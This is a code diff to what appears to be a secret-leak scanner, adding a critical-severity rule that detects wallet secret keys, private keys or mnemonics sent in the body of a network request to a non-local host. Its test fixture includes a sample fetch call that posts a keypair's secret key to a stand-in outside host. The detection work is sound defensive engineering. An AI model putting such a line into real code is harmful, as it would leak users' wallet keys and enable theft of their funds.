@@ -181,4 +181,31 @@ export const typedSecrets: readonly Row[] = [
       ),
     ],
   }),
+  row('the secret key of a wallet is in the body of a request', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'line',
+    match: exactPattern(
+      raw(
+        String.raw`(?:\bfetch\(|\bpost\(|\baxios\b|\burlopen\()[^\n]{0,240}(?:JSON\.stringify\(|json\s?=|data\s?=|body\s?:)[^\n]{0,120}\b(?:secretKey|secret_key\(|privateKey|`,
+      ),
+      raw(String.raw`private_key\b|exportPrivateKey|\.mnemonic)\b`),
+    ),
+    severity: 'critical',
+    weigh: ({ match, region: { text }, severity }) => {
+      const url = firstUrl(match[0]) ?? firstUrl(text);
+      return url === null || isLocal(url.host) ? null : severity;
+    },
+    catches: [
+      inFile(
+        'scripts/a.js',
+        'fetch("https://parts.invalid/new", { method: "POST", body: JSON.stringify({ sk: Array.from(kp.secretKey) }) });',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/a.js',
+        'fetch("http://localhost:8080/sign", { method: "POST", body: JSON.stringify({ sk: kp.secretKey }) });',
+      ),
+    ],
+  }),
 ];
